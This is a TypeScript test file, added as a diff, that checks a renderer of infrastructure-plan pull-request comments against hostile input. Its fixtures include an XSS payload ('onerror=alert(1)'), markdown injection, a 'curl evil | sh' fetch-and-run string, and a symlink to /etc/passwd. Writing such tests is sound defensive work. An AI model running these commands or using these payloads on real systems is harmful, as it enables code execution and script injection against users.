@@ -1,0 +1,203 @@
+/**
+ * The pull-request comment renderer against hostile plan content: no mention, no HTML, no early
+ * </details>; the headline survives a header that alone passes the size limit; a malformed plan is
+ * refused with a message (no stack trace); summary data read back from an artifact is validated.
+ */
+import { spawnSync } from 'node:child_process';
+import * as fs from 'node:fs';
+import * as path from 'node:path';
+import { describe, expect, it } from 'vitest';
+import { ConfigError } from '../lib/config/errors';
+import { readArtifact, toArtifact } from '../lib/plan/artifact';
+import { parsePlan, PLACEHOLDER_PREFIX, renderSummary, type StackPlan } from '../lib/plan/summary';
+import { tempDir } from './helpers';
+
+const cli = path.resolve(__dirname, '..', 'dist', 'scripts', 'plan-summary.js');
+const HOSTILE = '@octocat </details><img src=x onerror=alert(1)> [x](https://evil.example) `tick` *bold*\n\n</details>\n# heading';
+
+/** A plan as tofu writes it, one container replaced, with hostile text in every free-form place. */
+function hostilePlan(): string {
+  const labels = [
+    { label: 'stackyard.service', value: HOSTILE },
+    { label: 'stackyard.host', value: HOSTILE },
+    { label: 'stackyard.kind', value: 'postgres' },
+  ];
+  return JSON.stringify({
+    format_version: '1.2',
+    resource_changes: [{
+      address: 'docker_container.svc_db_1',
+      mode: 'managed',
+      type: 'docker_container',
+      name: 'svc_db_1',
+      change: {
+        actions: ['delete', 'create'],
+        before: { image: 'sha256:aaa', labels, command: [HOSTILE] },
+        after: { image: HOSTILE, labels, command: ['(</details><img src=x>)'] },
+        after_unknown: {},
+        before_sensitive: {},
+        after_sensitive: {},
+        replace_paths: [['image']],
+      },
+    }],
+  });
+}
+
+describe('plan comment renderer: hostile content', () => {
+  const md = renderSummary([parsePlan('staging', hostilePlan())]).markdown;
+  // what GitHub interprets: everything outside code spans (their content is shown literally)
+  const outside = md.replace(/`[^`\n]*`/g, '');
+
+  it('mentions nobody', () => {
+    expect(outside).not.toMatch(/@octocat/);
+    expect(outside).toContain('@\u200boctocat');
+    // a code span cannot be left early: no backtick or line break inside one
+    expect(md.split('\n').every((l) => (l.match(/`/g) ?? []).length % 2 === 0)).toBe(true);
+  });
+
+  it('adds no HTML and closes no <details> early', () => {
+    expect(outside).not.toMatch(/<img/i);
+    // the only tags are the renderer's own: one <details> and its </details>
+    expect(outside.match(/<details>/g)).toHaveLength(1);
+    expect(outside.match(/<\/details>/g)).toHaveLength(1);
+    const lines = md.split('\n');
+    expect(lines.filter((l) => /^#\s*heading/.test(l))).toEqual([]);
+  });
+
+  it('adds no link and keeps every value on one line', () => {
+    expect(outside).toContain('evil.example');
+    expect(outside).not.toMatch(/(?<!\\)\]\(/);
+    expect(outside).not.toMatch(/\*bold\*/);
+    expect(outside.split('\n').filter((l) => l.includes('</details>'))).toEqual(['</details>']);
+  });
+
+  it('a value that looks like the renderer\'s own words stays a code span', () => {
+    expect(md).toContain("`(</details><img src=x>)`");
+  });
+});
+
+describe('plan comment renderer: size limit', () => {
+  it('keeps the headlines when the header alone passes the limit', () => {
+    const changes = Array.from({ length: 400 }, (_, i) => ({
+      address: `docker_container.svc_service_with_a_long_name_${i}_1`, type: 'docker_container', action: 'replace' as const,
+      host: 'core', service: `service-with-a-long-name-${i}`, kind: i % 2 ? 'postgres' : 'web',
+      attributes: [{ path: 'image', before: 'a', after: 'b', forcesReplacement: true }], dataLoss: i % 2 === 1,
+    }));
+    const plans: StackPlan[] = [{ name: 'production', changes }, { name: 'staging', changes: [] }];
+    const limit = 4000;
+    const s = renderSummary(plans, limit);
+    expect(s.markdown.length).toBeLessThanOrEqual(limit);
+    expect(s.truncated).toBe(true);
+    expect(s.markdown).toContain('**production**: 0 to add, 0 to change, 400 to replace, 0 to destroy');
+    expect(s.markdown).toContain('**staging**: no changes');
+    expect(s.markdown).toContain('> [!CAUTION]');
+    expect(s.markdown).toMatch(/… and \d+ more/);
+  });
+});
+
+describe('malformed plans', () => {
+  const cases: Record<string, unknown> = {
+    'a change without actions': { format_version: '1.2', resource_changes: [{ address: 'a.b', type: 'a', name: 'b', change: {} }] },
+    'a change that is a number': { format_version: '1.2', resource_changes: [42] },
+    'resource_changes that is a mapping': { format_version: '1.2', resource_changes: { a: 1 } },
+    'replace_paths that are not lists': { format_version: '1.2', resource_changes: [{ address: 'a.b', type: 'a', name: 'b', change: { actions: ['update'], before: {}, after: {}, replace_paths: [7] } }] },
+    'an unknown action': { format_version: '1.2', resource_changes: [{ address: 'a.b', type: 'a', name: 'b', change: { actions: ['explode'] } }] },
+    'configuration resources that are a mapping': { format_version: '1.2', configuration: { root_module: { resources: { x: 1 } } }, resource_changes: [] },
+  };
+  for (const [what, plan] of Object.entries(cases)) {
+    it(`${what}: exit 1 with a message, no stack trace`, () => {
+      const d = tempDir();
+      const file = path.join(d, 'plan.json');
+      fs.writeFileSync(file, JSON.stringify(plan));
+      const r = spawnSync(process.execPath, [cli, 'plan', file], { encoding: 'utf8' });
+      if (what.startsWith('configuration')) {
+        expect(r.status).toBe(0);
+        return;
+      }
+      expect(r.status).toBe(1);
+      expect(r.stderr).toMatch(new RegExp(`^${file.replace(/[.*+?^${}()|[\]\\/]/g, '\\$&')}: has resource_changes`));
+      expect(r.stderr).not.toMatch(/\n\s+at /);
+      expect(r.stderr.trim().split('\n')).toHaveLength(1);
+    });
+  }
+});
+
+describe('placeholder secrets in pull-request plans', () => {
+  const change = (before: unknown, after: unknown, replace: string[][] = [['upload']]) => JSON.stringify({
+    format_version: '1.2',
+    resource_changes: [{
+      address: 'docker_container.svc_db_1', mode: 'managed', type: 'docker_container', name: 'svc_db_1',
+      change: { actions: ['delete', 'create'], before, after, after_unknown: { id: true }, before_sensitive: { upload: [{ content: true }, { content: true }] }, after_sensitive: { upload: [{ content: true }, { content: true }] }, replace_paths: replace },
+    }],
+  });
+  const deployed = { image: 'sha256:1', env: ['A=1', 'DB_URL=postgresql://app:real@db/app'], upload: [{ file: '/run/secrets/DB_PASSWORD', content: 'real' }, { file: '/etc/x.conf', content: 'x' }], labels: [{ label: 'stackyard.kind', value: 'postgres' }] };
+
+  it('a placeholder where the deployed value was is no change at all', () => {
+    const planned = { ...deployed, env: [`DB_URL=postgresql://app:${PLACEHOLDER_PREFIX}DB_PASSWORD@db/app`, 'A=1'], upload: [{ file: '/etc/x.conf', content: 'x' }, { file: '/run/secrets/DB_PASSWORD', content: `${PLACEHOLDER_PREFIX}DB_PASSWORD` }] };
+    expect(parsePlan('p', change(deployed, planned), 'p', { placeholders: true }).changes).toEqual([]);
+    // without the option, the same plan is a replacement (what tofu says)
+    expect(parsePlan('p', change(deployed, planned)).changes.map((c) => c.action)).toEqual(['replace']);
+  });
+
+  it('a real change next to a placeholder still shows, with the right action', () => {
+    const planned = { ...deployed, image: 'sha256:2', upload: [{ file: '/etc/x.conf', content: 'x' }, { file: '/run/secrets/DB_PASSWORD', content: `${PLACEHOLDER_PREFIX}DB_PASSWORD` }] };
+    const p = parsePlan('p', change(deployed, planned, [['upload'], ['image']]), 'p', { placeholders: true });
+    expect(p.changes.map((c) => [c.action, c.dataLoss, c.attributes.map((a) => a.path)])).toEqual([['replace', true, ['image']]]);
+    const notForced = parsePlan('p', change(deployed, { ...deployed, labels: [{ label: 'stackyard.kind', value: 'postgres' }, { label: 'x', value: 'y' }], upload: planned.upload }), 'p', { placeholders: true });
+    expect(notForced.changes.map((c) => [c.action, c.dataLoss])).toEqual([['update', false]]);
+  });
+  it('the deployed value that stands in for a placeholder stays masked when set order changes', () => {
+    const plan = JSON.stringify({
+      format_version: '1.2',
+      resource_changes: [{
+        address: 'docker_container.svc_api_1', mode: 'managed', type: 'docker_container', name: 'svc_api_1',
+        change: {
+          actions: ['delete', 'create'],
+          before: { upload: [{ file: '/etc/a.conf', content: 'a' }, { file: '/run/secrets/K', content: 'deployed-real-secret' }] },
+          after: { upload: [{ file: '/run/secrets/K', content: `${PLACEHOLDER_PREFIX}K` }, { file: '/etc/a.conf', content: 'a2' }, { file: '/etc/new.conf', content: 'n' }] },
+          before_sensitive: { upload: [{}, { content: true }] },
+          after_sensitive: { upload: [{ content: true }, {}, {}] },
+          after_unknown: {},
+          replace_paths: [['upload']],
+        },
+      }],
+    });
+    const p = parsePlan('p', plan, 'p', { placeholders: true });
+    const md = renderSummary([p]).markdown;
+    expect(md).not.toContain('deployed-real-secret');
+    expect(p.changes[0].attributes.map((a) => [a.path, a.before, a.after])).toEqual([['upload.0.content', 'a', 'a2'], ['upload.2', '(none)', '{"file":"/etc/new.conf","content":"n"}']]);
+  });
+});
+
+describe('summary artifacts', () => {
+  it('round-trip, and refuse anything that is not summary data', () => {
+    const d = tempDir();
+    const plans = [parsePlan('staging', hostilePlan())];
+    fs.writeFileSync(path.join(d, 'ok.json'), toArtifact(plans));
+    expect(readArtifact(path.join(d, 'ok.json'))).toEqual(plans);
+    const bad = (name: string, text: string | Buffer) => {
+      fs.writeFileSync(path.join(d, name), text);
+      return () => readArtifact(path.join(d, name));
+    };
+    expect(bad('notjson.json', 'x')).toThrow(/is not JSON/);
+    expect(bad('extra.json', JSON.stringify({ kind: 'stackyard-plan-summary', version: 1, plans: [], run: 'curl evil | sh' }))).toThrow(/is not a plan summary/);
+    expect(bad('name.json', JSON.stringify({ kind: 'stackyard-plan-summary', version: 1, plans: [{ name: 'x\n- **prod**: no changes', changes: [] }] }))).toThrow(ConfigError);
+    expect(bad('big.json', Buffer.alloc(5 * 1024 * 1024, 32))).toThrow(/at most/);
+    fs.symlinkSync('/etc/passwd', path.join(d, 'link.json'));
+    expect(() => readArtifact(path.join(d, 'link.json'))).toThrow(/not a regular file/);
+  });
+
+  it('the render CLI labels where each summary came from and fails cleanly on a bad one', () => {
+    const d = tempDir();
+    fs.writeFileSync(path.join(d, 'a.json'), toArtifact([{ name: 'staging', changes: [] }]));
+    fs.writeFileSync(path.join(d, 'notes.json'), JSON.stringify(['production: a maintainer must plan it']));
+    const ok = spawnSync(process.execPath, [cli, 'render', `trusted:${path.join(d, 'a.json')}`, `pr-code:${path.join(d, 'a.json')}`, '--notes', path.join(d, 'notes.json')], { encoding: 'utf8' });
+    expect(ok.status).toBe(0);
+    expect(ok.stdout).toContain("**staging**: no changes (planned by the base branch's code");
+    expect(ok.stdout).toContain("**staging**: no changes (structural diff computed by the pull request's own code");
+    expect(ok.stdout).toContain('> production: a maintainer must plan it');
+    fs.writeFileSync(path.join(d, 'bad.json'), '{"kind":"x"}');
+    const bad = spawnSync(process.execPath, [cli, 'render', path.join(d, 'bad.json')], { encoding: 'utf8' });
+    expect(bad.status).toBe(1);
+    expect(bad.stderr).toContain('is not a plan summary');
+  });
+});
